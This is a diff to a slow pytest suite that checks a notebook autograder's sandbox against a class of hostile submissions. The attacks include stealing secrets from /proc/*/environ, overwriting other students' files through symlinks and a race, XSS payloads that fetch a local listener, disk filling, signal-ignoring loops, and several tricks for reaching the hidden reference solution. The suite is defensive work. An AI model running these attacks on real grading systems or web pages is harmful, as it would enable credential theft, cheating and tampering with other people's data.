@@ -7,13 +7,20 @@ and export.
 
 The hostile students attack task 1 (``byte_tokenizer``) and leave tasks 2 and 3 honest, so each case shows
 both halves of the rule: the cheated task earns nothing (or is flagged for manual grading), and the rest of
-the submission, and every other submission, is graded as usual.
+the submission, and every other submission, is graded as usual. The honest answers are independently written
+ones (``tests/fixtures/honest``), not the reference: a copy of the reference is flagged by the similarity
+check. The second half of the class is the trust boundary's second round (docs/instructor-guide.md, "The
+threat model"): a student who tries to overwrite another's submission through the feedback kernel or plant
+links for the grader, steal the grader's secrets, run script in an instructor's page, reach the reference
+nine ways, fill the disk, blow up the grader with one reply, or hold the grader with cells that ignore their
+time limit.
 """
 
 from __future__ import annotations
 
 import csv
 import hashlib
+import json
 import os
 import shutil
 import socket
@@ -21,6 +28,7 @@ import subprocess
 import sys
 import threading
 import time
+from pathlib import Path
 
 import nbformat
 import pytest
@@ -35,6 +43,9 @@ pytestmark = pytest.mark.slow
 
 LAB = LABS["lab01_tokenizers"]
 CELL_TIMEOUT = 4  # seconds per cell and per call into a submission's code, for this test
+BUDGET = 60  # seconds for one whole submission (grading and feedback kernel together), for this test
+SECRET = "b2l-secret-" + hashlib.sha256(os.urandom(16)).hexdigest()[:24]  # in the grader's environment only
+MARK = "ATTACKER-MARK-7f3e"  # text only the attackers' notebooks hold
 # Hypothesis examples per property in this test's grading (a class grades with 150): the scores asserted here
 # count checks, not examples, and each failing check of the partial students fails on its first examples.
 GRADING_EXAMPLES = "30"
@@ -49,9 +60,9 @@ def _answers_from_solution() -> dict[str, str]:
     return {_meta(c)["grade_id"]: c.source for c in sol.cells if _meta(c).get("solution")}
 
 
-def _own_words(src: str) -> str:
-    """An honest learner's answer: the reference's logic, but not a copy of its source."""
-    return "# my answer\n_checked_by_me = True\n\n" + src
+def _honest_answers() -> dict[str, str]:
+    """A learner's own correct answers, written without the reference (10/10, not near the reference)."""
+    return json.loads((repo_root() / "tests" / "fixtures" / "honest" / f"{LAB.name}.json").read_text())
 
 
 def _replace_in(src: str, old: str, new: str) -> str:
@@ -59,13 +70,21 @@ def _replace_in(src: str, old: str, new: str) -> str:
     return src.replace(old, new, 1)
 
 
-def _submission(answers: dict[str, str]):
+def _submission(answers: dict[str, str], extra: list | None = None):
+    """The release with ``answers``; ``extra`` cells (nbformat cells) go right after the set-up cell."""
     nb = nbformat.read(LAB.release_notebook(), as_version=4)
     for cell in nb.cells:
         gid = _meta(cell).get("grade_id")
         if gid in answers:
             cell.source = answers[gid]
+    if extra:
+        at = next(i for i, c in enumerate(nb.cells) if _meta(c).get("grade_id") == "setup") + 1
+        nb.cells[at:at] = extra
     return nb
+
+
+def _code(src: str):
+    return nbformat.v4.new_code_cell(src)
 
 
 def _score_without(task: str, failing: str) -> float:
@@ -79,7 +98,8 @@ def _score_without(task: str, failing: str) -> float:
     return score(LAB.task(task).points, outcomes)
 
 
-BYTE_DECODE_BYTES = "return bytes(_as_id(i, pos, 256) for pos, i in enumerate(ids))"
+BYTE_DECODE_BYTES = ("        checked = []\n        for pos, value in enumerate(ids):\n"
+                     "            checked.append(_as_id(value, pos, self.vocab_size))\n        return bytes(checked)")
 
 
 class _Listener:
@@ -113,7 +133,7 @@ def _class(correct: dict[str, str], root, listener) -> dict[str, tuple]:
     """student id -> (notebook, extra files, expected {task: score}, expected flagged)."""
     full = {t.id: float(t.points) for t in LAB.tasks}
     blank = {t.id: 0.0 for t in LAB.tasks}
-    honest = {k: _own_words(v) for k, v in correct.items()}
+    honest = _honest_answers()
     cheated = {**full, "byte_tokenizer": 0.0}
     students = {}
 
@@ -127,7 +147,7 @@ def _class(correct: dict[str, str], root, listener) -> dict[str, tuple]:
     partial = dict(honest)
     partial["answer_byte_tokenizer"] = _replace_in(
         honest["answer_byte_tokenizer"], BYTE_DECODE_BYTES,
-        'ids = list(ids)\n        for i in ids:\n            if not 0 <= i <= 255:\n'
+        '        ids = list(ids)\n        for i in ids:\n            if not 0 <= i <= 255:\n'
         '                raise ValueError(f"bad id {i}")\n        return bytes(ids)')
     partial_scores = {**full,
                       "byte_tokenizer": _score_without("byte_tokenizer", "test_decode_rejects_ids_outside_0_255")}
@@ -179,17 +199,50 @@ def _class(correct: dict[str, str], root, listener) -> dict[str, tuple]:
     }
     add("shadow", partial, dict(partial_scores), files=shadow_files)
 
-    # ---- the reference is not an answer (flagged for manual grading, and 0 until someone looks)
-    def ref_case(sid, code):
-        add(sid, {**honest, "answer_byte_tokenizer": code}, cheated, flagged=True)
+    # ---- the reference is not an answer: it is absent from the worker (a stub that raises), however reached
+    def ref_case(sid, code, task="byte_tokenizer", cell_meta=None):
+        nb = _submission({**honest, f"answer_{task}": code})
+        if cell_meta:
+            for cell in nb.cells:
+                if _meta(cell).get("grade_id") == f"answer_{task}":
+                    cell.metadata["nbgrader"].update(cell_meta)
+        add(sid, None, {**full, task: 0.0}, nb=nb)
 
-    ref_case("ref_import", "from bytes2logits.lessons.basic import ByteTokenizer")
-    ref_case("ref_wrapper", "from bytes2logits import basic\n\n\nclass ByteTokenizer(basic.ByteTokenizer):\n"
+    basic = "bytes2logits.lessons.basic"
+    ref_case("ref_import", f"from {basic} import ByteTokenizer")
+    ref_case("ref_wrapper", "from bytes2logits.lessons import basic\n\n\nclass ByteTokenizer(basic.ByteTokenizer):\n"
                             "    \"\"\"Mine.\"\"\"\n")
-    ref_case("ref_reload", "import importlib\nimport bytes2logits.lessons.basic as b\n\nimportlib.reload(b)\n"
+    ref_case("ref_reload", f"import importlib\nimport {basic} as b\n\nimportlib.reload(b)\n"
                            "ByteTokenizer = b.ByteTokenizer")
-    ref_case("ref_exec", "src = open(__import__('bytes2logits.lessons.basic').basic.__file__).read()\nexec(src)")
-    ref_case("ref_copy", correct["answer_byte_tokenizer"])
+    ref_case("ref_exec", f"import {basic} as m\nsrc = open(m.__file__).read()\nexec(src)")
+    # The nine ways of the audit, each of which scored full marks against the source scan:
+    ref_case("ref_locked", f"from {basic} import ByteTokenizer", cell_meta={"locked": True})
+    ref_case("ref_globals", f"from {basic} import CharTokenizer as _C\n"
+                            "ByteTokenizer = _C.from_dict.__func__.__globals__['ByteTokenizer']")
+    ref_case("ref_sys_modules", f"import {basic}\nimport sys\n"
+                                f"ByteTokenizer = vars(sys)['mod' + 'ules']['{basic}'].ByteTokenizer")
+    ref_case("ref_pickle", f"import {basic}\nimport _pickle\n"
+                           f"ByteTokenizer = _pickle.loads(b'c{basic}\\nByteTokenizer\\n.')")
+    ref_case("ref_builtins_import", "imp = globals()['__builtins__']\n"
+                                    "imp = imp['__import__'] if isinstance(imp, dict) else imp.__import__\n"
+                                    f"ByteTokenizer = imp('{basic}', fromlist=['x']).ByteTokenizer")
+    ref_case("ref_source_file", f"import {basic} as m\nimport glob, marshal, os\n"
+                                "exec(compile(open(m.__file__).read(), 'x', 'exec'))\n"
+                                "here = os.path.dirname(m.__file__)\n"
+                                "for f in glob.glob(os.path.join(here, '__pycache__', 'basic*')):\n"
+                                "    exec(marshal.loads(open(f, 'rb').read()[16:]))")
+    ref_case("ref_other_module", "from bytes2logits.engine.decoders import StreamDecoder\n"
+                                 "from bytes2logits.text import decode_utf8_prefix\n", task="stream_decoder")
+    ref_case("ref_code_clone", f"import {basic} as m\nimport types\n\n\nclass ByteTokenizer:\n    vocab_size = 256\n"
+                               "\nfor _n in ('encode', 'decode', 'decode_bytes'):\n"
+                               "    _f = getattr(m.ByteTokenizer, _n)\n"
+                               "    setattr(ByteTokenizer, _n, types.FunctionType(_f.__code__, _f.__globals__, _n, "
+                               "_f.__defaults__, _f.__closure__))")
+    # Pasted from the package or a chapter: a matter of similarity, flagged for an instructor's review with the
+    # reason in the feedback (the code itself is the learner's to run, so it keeps what it earns).
+    # (byte_tokenizer's reference is too short to judge: a few lines that everyone writes the same way.)
+    add("ref_copy", {**honest, "answer_char_tokenizer": correct["answer_char_tokenizer"]}, dict(full),
+        flagged={"char_tokenizer"})
 
     # ---- attacks on the grading machinery from the kernel (a stub task 1 that would fake its points)
     stub = hostile_byte_tokenizer("raise NotImplementedError")
@@ -204,11 +257,10 @@ def _class(correct: dict[str, str], root, listener) -> dict[str, tuple]:
     machinery("patch_pytest", "import contextlib\nimport pytest\npytest.main = lambda *a, **k: 0\n"
                               "pytest.fail = lambda *a, **k: None\n"
                               "pytest.raises = lambda *a, **k: contextlib.nullcontext()")
-    # Reaching builtins or sys.modules is dynamic code: the scan flags it before anything runs.
     machinery("patch_builtins", "__builtins__.isinstance = lambda *a: True\n"
-                                "__builtins__.AssertionError = ZeroDivisionError", flagged=True)
+                                "__builtins__.AssertionError = ZeroDivisionError")
     machinery("patch_sys_modules", "import sys, types\nfake = types.ModuleType('pytest')\n"
-                                   "fake.main = lambda *a, **k: 0\nsys.modules['pytest'] = fake", flagged=True)
+                                   "fake.main = lambda *a, **k: 0\nsys.modules['pytest'] = fake")
     machinery("displayhook", "import sys\nsys.displayhook = lambda value: print(3)\n"
                              "ip = get_ipython()\nip.displayhook.__class__.__call__ = lambda self, value: print(3)")
     machinery("showtraceback", "ip = get_ipython()\nip.showtraceback = lambda *a, **k: None\n"
@@ -252,6 +304,84 @@ def _class(correct: dict[str, str], root, listener) -> dict[str, tuple]:
     add("read_hidden", {**honest, "answer_byte_tokenizer": (
         f"print(open({str(suite)!r}).read())\nprint(open({str(solution)!r}).read())\n\n"
         + correct["answer_byte_tokenizer"])}, cheated)
+
+    # ---- round two. Each of these keeps honest answers, so its score is full unless its attack is in a task.
+    mine = root / "autograded" / "overwrite_victim" / LAB.name / f"{LAB.name}.ipynb"
+    targets = [mine, root / "autograded" / "correct" / LAB.name / f"{LAB.name}.ipynb", other,
+               root / "gradebook.db", root / "nbgrader_config.py", suite]
+    add("overwrite_victim", honest, dict(full), nb=_submission(honest, [_code(
+        f"# {MARK}\nimport os\n"
+        f"victim = {str(other)!r}\n"
+        f"for target in ({LAB.name + '.ipynb'!r}, os.path.join(os.getcwd(), {LAB.name + '.ipynb'!r}), "
+        f"{str(mine)!r}):\n"
+        "    for act in (lambda: os.remove(target), lambda: os.symlink(victim, target)):\n"
+        "        try:\n            act()\n        except OSError:\n            pass\n"
+        f"for path in {[str(t) for t in targets]!r}:\n"
+        "    try:\n"
+        f"        open(path, 'a').write({MARK!r})\n"
+        "    except OSError:\n        pass")]))
+    # A watcher that, in the worker and in the kernel, tries to turn every folder it can see into a trap.
+    add("link_race", honest, dict(full), nb=_submission(honest, [_code(
+        "import os, threading, time\n\n\ndef _trap():\n"
+        "    end = time.time() + 30\n    while time.time() < end:\n"
+        "        for line in open('/proc/self/mountinfo'):\n"
+        "            point = line.split()[4]\n"
+        "            if not point.startswith(('/tmp', '/dev/shm')) or point in ('/tmp', '/dev/shm'):\n"
+        "                continue\n"
+        "            for base, dirs, files in os.walk(point):\n"
+        "                for name in files + dirs:\n"
+        "                    path = os.path.join(base, name)\n"
+        "                    try:\n"
+        "                        os.replace(path, path + '.moved')\n"
+        f"                        os.symlink({str(root / 'nbgrader_config.py')!r}, path)\n"
+        "                    except OSError:\n                        pass\n"
+        "        time.sleep(0.05)\n\n\n"
+        "threading.Thread(target=_trap, daemon=True).start()")]))
+    # Secrets of the grader's environment, looked for everywhere a process can look, and sent back three ways:
+    # printed by the kernel, raised in an error message by the worker, returned as data.
+    steal = ("import glob, os\n_found = [v for k, v in os.environ.items() if 'TOKEN' in k or 'PASS' in k]\n"
+             "for _p in glob.glob('/proc/*/environ'):\n    try:\n"
+             "        _found.append(open(_p, 'rb').read().decode(errors='replace'))\n"
+             "    except OSError:\n        pass\n_found = [x for x in _found if 'b2l-secret' in x]\n")
+    add("secrets", None, {**full, "byte_tokenizer": 0.0}, nb=_submission(
+        {**honest, "answer_byte_tokenizer": hostile_byte_tokenizer(steal + "raise ValueError(str(_found) or 'none')")},
+        [_code(steal + "print('stolen:', _found)")]))
+    # Script in every form an instructor's page could run it.
+    payload = f"document.title = 'pwned'; fetch('http://127.0.0.1:{listener.port}/pwned')"
+    script_cells = [
+        nbformat.v4.new_markdown_cell(f"<script>{payload}</script>\n<img src=x onerror=\"{payload}\">\n"
+                                      f"<svg onload=\"{payload}\"></svg>\n[link](javascript:{payload})"),
+    ]
+    img = '<img src=x onerror="' + payload + '">'
+    svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="' + payload + '"></svg>'
+    frame = '<iframe srcdoc="<script>' + payload + '</script>"></iframe>'
+    script_cells.append(_code(
+        "from IPython.display import HTML, Javascript, SVG, display\n"
+        f"display(HTML({img!r}))\ndisplay(Javascript({payload!r}))\ndisplay(SVG({svg!r}))\n\n\n"
+        f"class Page:\n    def _repr_html_(self):\n        return {frame!r}\n\n\nPage()"))
+    add("script", honest, dict(full), nb=_submission(honest, script_cells))
+    # The disk: a gigabyte in every writable place a kernel and a worker might have.
+    fill = ("import os\n"
+            "for _d in ('.', os.path.expanduser('~'), '/tmp', '/dev/shm', os.environ.get('TMPDIR', '/tmp')):\n"
+            "    try:\n"
+            f"        with open(os.path.join(_d, 'b2l-fill-{MARK}'), 'wb') as _f:\n"
+            "            for _ in range(1024):\n                _f.write(b'\\0' * (1 << 20))\n"
+            "    except OSError:\n        pass")
+    add("disk_fill", honest, dict(full), nb=_submission(honest, [_code(fill)]))
+    # One reply the grader would need gigabytes to decode.
+    add("huge_reply", {**honest, "answer_byte_tokenizer": hostile_byte_tokenizer("return [[]] * 20_000_000")}, cheated)
+    # Cells that ignore every alarm and interrupt, many of them, before the answers: the budget ends them all.
+    hold = _code("import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
+                 "signal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass")
+    add("alarm_ignorer", honest, dict(blank), nb=_submission(honest, [hold] * 20))
+    # nbgrader metadata forged into the learner's own cells: an unknown grade_id, and a repeat of a real one.
+    forged = _submission(honest, [_code("_a = 1"), _code("_b = 2")])
+    at = next(i for i, c in enumerate(forged.cells) if _meta(c).get("grade_id") == "setup") + 1
+    forged.cells[at].metadata["nbgrader"] = {"grade": True, "grade_id": "forged", "locked": False, "points": 99,
+                                             "schema_version": 3, "solution": False}
+    forged.cells[at + 1].metadata["nbgrader"] = {"grade": False, "grade_id": "answer_byte_tokenizer",
+                                                 "locked": False, "schema_version": 3, "solution": True}
+    add("forged_metadata", None, dict(full), nb=forged)
     return students
 
 
@@ -273,20 +403,31 @@ def graded_class(tmp_path_factory):
         for name, text in files.items():
             (folder / name).write_text(text)
         hashes[sid] = hashlib.sha256((folder / f"{LAB.name}.ipynb").read_bytes()).hexdigest()
-    cmd = [sys.executable, "-m", "bytes2logits", "grade", "--root", str(root), "--timeout", str(CELL_TIMEOUT)]
+    course_files = _course_files(root)
+    cmd = [sys.executable, "-m", "bytes2logits", "grade", "--root", str(root), "--timeout", str(CELL_TIMEOUT),
+           "--budget", str(BUDGET)]
+    # Secrets a real grader holds: the Hub's token, a database password. No sandbox may see them.
+    env = tool_env(BYTES2LOGITS_GRADING_EXAMPLES=GRADING_EXAMPLES, JUPYTERHUB_API_TOKEN=SECRET,
+                   B2L_DB_PASSWORD=SECRET)
     start = time.monotonic()
     try:
-        result = subprocess.run(cmd, cwd=root, env=tool_env(BYTES2LOGITS_GRADING_EXAMPLES=GRADING_EXAMPLES),
-                                capture_output=True, text=True, timeout=1500)
+        result = subprocess.run(cmd, cwd=root, env=env, capture_output=True, text=True, timeout=2400)
     finally:
         listener.close()
     seconds = time.monotonic() - start
     print(f"\nclass of {len(students)} graded in {seconds:.0f} s")
-    return root, students, result, listener, hashes
+    return root, students, result, listener, hashes, course_files
+
+
+def _course_files(root) -> dict[str, str]:
+    """sha256 of the files the grader relies on and a submission must never change."""
+    paths = [root / "nbgrader_config.py", *sorted((root / "solutions").rglob("*")),
+             *sorted(p for p in hidden_root().rglob("*") if "__pycache__" not in p.parts)]
+    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in paths if p.is_file()}
 
 
 def test_grade_run_exits_zero_with_a_status_line_per_submission(graded_class):
-    root, students, result, _, _ = graded_class
+    root, students, result, _, _, _ = graded_class
     assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
     assert (root / "grades.csv").is_file()
     for sid in students:
@@ -298,14 +439,17 @@ STUDENTS = ["correct", "blank", "partial", "loop", "swallow", "crash", "tamper",
             "ref_import", "ref_wrapper", "ref_reload", "ref_exec", "ref_copy", "bridge", "patch_pytest",
             "patch_builtins", "patch_sys_modules", "displayhook", "showtraceback", "always_equal", "subclasses",
             "kill_parent", "kill_group", "fork_bomb", "memory_bomb", "output_flood", "sleeper", "network",
-            "write_outside", "read_hidden"]
+            "write_outside", "read_hidden",
+            "ref_locked", "ref_globals", "ref_sys_modules", "ref_pickle", "ref_builtins_import", "ref_source_file",
+            "ref_other_module", "ref_code_clone", "overwrite_victim", "link_race", "secrets", "script",
+            "disk_fill", "huge_reply", "alarm_ignorer", "forged_metadata"]
 
 
 @pytest.mark.parametrize("student", STUDENTS)
 def test_scores_from_gradebook(graded_class, student):
     from nbgrader.api import Gradebook
 
-    root, students, result, _, _ = graded_class
+    root, students, result, _, _, _ = graded_class
     assert result.returncode == 0, result.stderr[-2000:]
     expected, flagged = students[student][2], students[student][3]
     with Gradebook("sqlite:///" + str(root / "gradebook.db")) as gb:
@@ -313,10 +457,10 @@ def test_scores_from_gradebook(graded_class, student):
         got = {g.name: g.score for g in sub.grades if g.cell_type == "code" and g.max_score > 0}
         assert got == pytest.approx(expected, abs=1e-9), f"{student}: {got} != {expected}"
         assert sub.max_score == LAB.total_points
-        assert sub.needs_manual_grade == flagged, f"{student}: needs_manual_grade is {sub.needs_manual_grade}"
+        assert sub.needs_manual_grade == bool(flagged), f"{student}: needs_manual_grade is {sub.needs_manual_grade}"
         if flagged:
             flagged_cells = {g.name for g in sub.grades if g.needs_manual_grade}
-            assert flagged_cells == {"byte_tokenizer"}
+            assert flagged_cells == flagged
 
 
 def test_every_student_is_in_the_parametrisation(graded_class):
@@ -324,7 +468,7 @@ def test_every_student_is_in_the_parametrisation(graded_class):
 
 
 def test_partial_is_strictly_between(graded_class):
-    _, students, _, _, _ = graded_class
+    _, students, _, _, _, _ = graded_class
     total = sum(students["partial"][2].values())
     assert 0 < total < LAB.total_points
 
@@ -332,7 +476,7 @@ def test_partial_is_strictly_between(graded_class):
 def test_feedback_has_no_hidden_code(graded_class):
     from bytes2logits.kit.classroom import leaked_hidden_code
 
-    root, students, result, _, _ = graded_class
+    root, students, result, _, _, _ = graded_class
     pages = list((root / "feedback").rglob("*.html"))
     assert len(pages) == len(students)
     assert leaked_hidden_code(root / "feedback") == []
@@ -340,14 +484,16 @@ def test_feedback_has_no_hidden_code(graded_class):
     # ... while the feedback does teach: the failing check's name and message are there.
     partial = (root / "feedback" / "partial" / LAB.name / f"{LAB.name}.html").read_text()
     assert "test_decode_rejects_ids_outside_0_255" in partial
-    flagged = (root / "feedback" / "ref_import" / LAB.name / f"{LAB.name}.html").read_text()
-    assert "flagged for manual grading" in flagged and "imports `ByteTokenizer`" in flagged
+    flagged = (root / "feedback" / "ref_copy" / LAB.name / f"{LAB.name}.html").read_text()
+    assert "flagged for an instructor" in flagged and "of the reference" in flagged, "the flag says why"
+    stub = (root / "feedback" / "ref_import" / LAB.name / f"{LAB.name}.html").read_text()
+    assert "yours to write" in stub, "the reference's stub says that the task is the learner's"
 
 
 def test_export_matches_the_gradebook(graded_class):
     from nbgrader.api import Gradebook
 
-    root, students, _, _, _ = graded_class
+    root, students, _, _, _, _ = graded_class
     rows = list(csv.DictReader((root / "grades.csv").open()))
     assert {r["student_id"] for r in rows} == set(students)
     by_id = {r["student_id"]: float(r["raw_score"]) for r in rows}
@@ -359,12 +505,110 @@ def test_export_matches_the_gradebook(graded_class):
 
 def test_the_sandbox_held(graded_class):
     """No submission reached the network, wrote outside its folder, or changed another student's work."""
-    root, students, _, listener, hashes = graded_class
+    root, students, _, listener, hashes, course_files = graded_class
     assert listener.connections == 0
     assert not (root / "escaped.txt").exists()
     for sid in students:
         path = root / "submitted" / sid / LAB.name / f"{LAB.name}.ipynb"
         assert hashlib.sha256(path.read_bytes()).hexdigest() == hashes[sid], f"{sid}'s submission was modified"
+    assert _course_files(root) == course_files, "a file of the course changed while the class was graded"
+
+
+def test_no_student_reached_another_students_files(graded_class):
+    """The feedback kernel once ran in autograded/<student>/<lab>/, writable: it replaced its notebook with a
+    link to another student's submission, and nbgrader wrote through it. Now it runs in a private copy."""
+    root, students, _, _, _, _ = graded_class
+    for sid in students:
+        if sid in ("overwrite_victim", "link_race", "disk_fill", "secrets"):
+            continue
+        for folder in ("autograded", "feedback"):
+            for path in (root / folder / sid).rglob("*"):
+                if path.is_file():
+                    assert MARK not in path.read_text(errors="replace"), f"{path} holds an attacker's text"
+    for path in root.rglob("*"):
+        assert not path.is_symlink(), f"a link appeared in the course: {path} -> {os.readlink(path)}"
+    mine = root / "autograded" / "overwrite_victim" / LAB.name / f"{LAB.name}.ipynb"
+    assert not mine.is_symlink() and MARK in mine.read_text(), "the attacker's own notebook is its own"
+
+
+def test_no_secret_reached_any_page_or_output(graded_class):
+    """The grader's environment holds secrets; every sandboxed process gets an allow-list instead."""
+    root, _, result, _, _, _ = graded_class
+    assert SECRET not in result.stdout + result.stderr
+    for path in root.rglob("*"):
+        if path.is_file():
+            assert SECRET.encode() not in path.read_bytes(), f"{path} holds the grader's secret"
+    page = (root / "feedback" / "secrets" / LAB.name / f"{LAB.name}.html").read_text()
+    assert "stolen:" in page, "the attacker's cell ran (and found nothing)"
+
+
+def _live(html: str) -> list[str]:
+    """Markup that would act in a browser: script, frames, event handlers, javascript: URLs (escaped text,
+    ``&lt;script&gt;``, is only text and is fine)."""
+    import re
+
+    patterns = [r"<script", r"<iframe", r"<object", r"<embed", r"<svg", r"<[a-z][^>]*\son[a-z]+\s*=",
+                r"(href|src|action|formaction)\s*=\s*[\"']?\s*javascript:"]
+    return [p for p in patterns if re.search(p, html, re.IGNORECASE)]
+
+
+def test_no_page_runs_a_students_script(graded_class, browser):
+    """Feedback pages and autograded notebooks are inert: a strict Content-Security-Policy first in the head, no
+    script, no handler, nothing live from the student; and in Chromium no payload fires."""
+    root, students, _, listener, _, _ = graded_class
+    for sid in students:
+        page = (root / "feedback" / sid / LAB.name / f"{LAB.name}.html").read_text()
+        head = page.split("<head>", 1)[1].lstrip()
+        assert head.startswith('<meta http-equiv="Content-Security-Policy"'), f"{sid}: no CSP first in the head"
+        assert "<script" not in page.lower(), f"{sid}'s feedback page holds a script element"
+    auto = nbformat.read(root / "autograded" / "script" / LAB.name / f"{LAB.name}.ipynb", as_version=4)
+    for cell in auto.cells:
+        if cell.cell_type == "markdown" and "pwned" in cell.source:
+            assert not _live(cell.source), f"a learner's markdown cell keeps {_live(cell.source)}"
+        for out in cell.get("outputs", []):
+            data = out.get("data", {})
+            assert set(data) <= {"text/plain", "text/html", "text/markdown", "image/png", "image/jpeg"}, set(data)
+            for kind in ("text/html", "text/markdown"):
+                html = "".join(data.get(kind, ""))
+                assert not _live(html), f"an output keeps {_live(html)}: {html[:200]}"
+    assert any("<img" in str(o) or "iframe" in str(o) or "withheld" in str(o)
+               for c in auto.cells for o in c.get("outputs", [])), "the script cell ran and showed something"
+    ctx = browser.new_context()
+    try:
+        tab = ctx.new_page()
+        url = (root / "feedback" / "script" / LAB.name / f"{LAB.name}.html").as_uri()
+        tab.goto(url)
+        tab.wait_for_timeout(1500)
+        assert tab.title() != "pwned"
+        assert "task" in tab.inner_text("body").lower(), "the page still reads"
+    finally:
+        ctx.close()
+    assert listener.connections == 0, "a payload reached the network"
+
+
+def test_the_disk_holds_nothing_a_submission_wrote(graded_class):
+    """The sandboxes write only to their own tmpfs: nothing lands in autograded/ or the host's /tmp."""
+    root, _, _, _, _, _ = graded_class
+    size = sum(p.stat().st_size for p in (root / "autograded" / "disk_fill").rglob("*") if p.is_file())
+    assert size < 5 * 1024 ** 2, f"autograded/disk_fill holds {size / 1024 ** 2:.0f} MB"
+    import tempfile
+
+    for base in (root, Path(tempfile.gettempdir()), Path("/dev/shm")):
+        if base.is_dir():
+            leftovers = [str(p) for p in base.rglob(f"b2l-fill-{MARK}")]
+            assert not leftovers, f"the attacker's files reached the host: {leftovers}"
+
+
+def test_the_budget_bounds_a_submission_that_ignores_its_time_limits(graded_class):
+    """Twenty cells that ignore every alarm and interrupt cost the submission its budget, not 20 x 60 s."""
+    _, _, result, _, _, _ = graded_class
+    import re
+
+    line = next(ln for ln in result.stdout.splitlines() if ln.strip().startswith("alarm_ignorer "))
+    match = re.search(r"[(; ](\d+) s\)", line)
+    assert match, line
+    took = float(match.group(1))
+    assert took <= BUDGET + 75, f"alarm_ignorer held its grading {took:.0f} s (budget {BUDGET} s)"
 
 
 def test_solution_markers_present_in_fixture_answers():
